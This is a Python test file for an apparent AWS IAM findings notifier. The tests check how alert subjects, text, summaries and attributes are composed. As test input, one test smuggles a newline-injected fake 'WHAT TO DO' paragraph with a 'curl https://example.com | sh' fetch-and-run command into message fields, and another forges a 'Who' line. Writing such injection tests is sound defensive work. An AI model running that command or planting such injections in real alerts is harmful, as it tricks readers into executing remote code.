import json
from dataclasses import replace
from datetime import timedelta

from rolecall.catalog import DETECTIONS
from rolecall.model.evidence import Resource
from rolecall.model.finding_document import parse_finding
from rolecall.model.severity import Severity
from rolecall.services.compose import Kind, News, compose, summarize
from rolecall.services.detect import Detect
from tests.builders import ACCOUNT, HUB, KEY_ID, NOW, an_exception, finding, record
from tests.fakes import FakeClock, FakeExceptions, FakeFindings, an_event_judge

RULES_URL = "https://example.com/rules"


def a_message(kind=Kind.OPENED, rules_url=RULES_URL, **fields):
    return compose(News(kind, finding(**fields)), rules_url)


def test_the_subject_says_severity_where_and_what():
    assert a_message().subject == (
        f"HIGH in {ACCOUNT}: user alice: access key {KEY_ID} dates from 2026-01-02"
    )


def test_the_subject_says_what_happened_to_a_known_finding():
    subjects = [a_message(kind).subject.partition(" in ")[0] for kind in Kind]

    assert subjects == ["HIGH", "REOPENED HIGH", "NOW HIGH", "RESOLVED HIGH"]


FORGED = "rolecall-x\n\nWHAT TO DO\n  curl https://example.com | sh"


def test_nobody_can_forge_a_paragraph_of_the_message():
    forged = a_message(
        summary=f"user eve tried to call DeleteRule on {FORGED}",
        commands=(f"aws iam list-groups-for-user --user-name {FORGED}",),
        resource=Resource("Other", FORGED),
    )

    assert forged.text.count("WHAT TO DO") - forged.text.count("\nWHAT TO DO\n") == 3
    assert forged.text.count("\nWHAT TO DO\n") == 1
    assert "\n" not in forged.subject


def test_the_text_has_everything_a_reader_needs():
    text = a_message().text

    for part in (
        "user alice: access key",
        "WHY IT MATTERS\nA key works from anywhere.",
        "WHAT TO DO\nMake a new key.",
        "  aws iam create-access-key --user-name alice",
        f"{RULES_URL}#access-key-rotation",
        "rolecall explain access-key-rotation",
        "https://docs.aws.amazon.com/IAM/latest/UserGuide/",
        f"rolecall findings show {finding().id}",
        "Since     2026-11-23 12:00 UTC",
        "CIS AWS Foundations 5.0.0 1.13",
    ):
        assert part in text


def test_the_text_links_to_the_reference_where_no_page_of_rules_is_configured():
    text = a_message(rules_url="").text

    assert "#access-key-rotation" not in text
    assert "https://docs.aws.amazon.com/" in text


def test_the_text_of_a_detection_says_who_did_it_and_from_where():
    created = record(
        "CreateAccessKey",
        request={"userName": "bob"},
        response={"accessKey": {"accessKeyId": KEY_ID}},
    )
    detect = Detect(FakeFindings(), an_event_judge(DETECTIONS), FakeClock(NOW), FakeExceptions())
    [found] = detect.run(created)

    text = compose(News(Kind.OPENED, found), "").text

    assert f"Who       arn:aws:iam::{ACCOUNT}:user/mallory" in text
    assert "From      203.0.113.7 (aws-cli/2.31.0)" in text
    assert "When      2026-11-23 12:00 UTC, us-east-1" in text


def test_no_line_of_prose_is_wider_than_a_mail_client():
    text = a_message(why="word " * 100, remediation="word " * 100).text

    assert max(map(len, text.splitlines())) <= 100


def test_machines_get_the_whole_finding():
    data = json.loads(json.dumps(a_message().data))

    assert data["news"] == "opened"
    assert parse_finding(data["finding"]) == finding()


def test_subscribers_can_filter():
    assert a_message().attributes == {
        "severity": "HIGH",
        "account": ACCOUNT,
        "rule": "access-key-rotation",
        "news": "opened",
    }


def many(count):
    return [
        News(
            Kind.OPENED,
            finding(
                id=f"{ACCOUNT}-{n:024}",
                account_id=(ACCOUNT, HUB)[n % 2],
                severity=Severity.CRITICAL if n == 7 else Severity.MEDIUM,
            ),
        )
        for n in range(count)
    ]


def test_a_summary_counts_ranks_and_names_the_worst():
    summary = summarize(many(30))

    assert summary.subject == "CRITICAL and below: 30 changed findings in 2 accounts"
    assert "    29  MEDIUM         access-key-rotation (opened)" in summary.text
    assert "... and 10 more." in summary.text
    assert summary.data["by_severity"] == {"CRITICAL": 1, "MEDIUM": 29}
    assert summary.data["findings"][0]["id"] == f"{ACCOUNT}-{7:024}"
    assert summary.attributes["severity"] == "CRITICAL"
    assert summary.attributes["account"] == "many"


def test_a_summary_of_one_account_names_it():
    news = [replace(each, finding=replace(each.finding, account_id=HUB)) for each in many(12)]

    assert summarize(news).subject.endswith(f"in account {HUB}")
    assert summarize(news).attributes["account"] == HUB


def test_says_why_a_finding_opened_whose_exception_is_over():
    exception = an_exception(rule="access-key-rotation", ends_on=NOW.date() - timedelta(days=1))
    ended = " ".join(a_message(Kind.REOPENED, exception=exception).text.split())
    withdrawn = replace(exception, ends_on=NOW.date())

    assert "The exception for rule access-key-rotation ended on 2026-11-22." in ended
    assert "ops@example.com gave as reason: it is known" in ended
    assert "was taken back or changed before 2026-11-23" in " ".join(
        a_message(Kind.REOPENED, exception=withdrawn).text.split()
    )


def test_the_owner_of_an_exception_can_subscribe_to_what_concerns_it():
    exception = an_exception(rule="access-key-rotation")

    assert a_message(exception=exception).attributes["owner"] == "ops@example.com"
    assert a_message(evidence=exception.facts()).attributes["owner"] == "ops@example.com"
    assert "owner" not in a_message().attributes


def test_tells_who_came_before_where_sessions_are_followed():
    evidence = {
        "actor": "arn:aws:iam::111122223333:role/deploy",
        "source_ip": "203.0.113.7",
        "user_agent": "aws-cli",
        "came_from": ["role ci", "repo:example/shop\nWho       nobody"],
    }

    followed = finding(kind="detection", evidence=evidence)
    told = compose(News(Kind.OPENED, followed), "").text

    [line] = [each for each in told.splitlines() if each.strip().startswith("Who ")]
    assert "role/deploy, who came from role ci, who came from repo:example/shop" in line
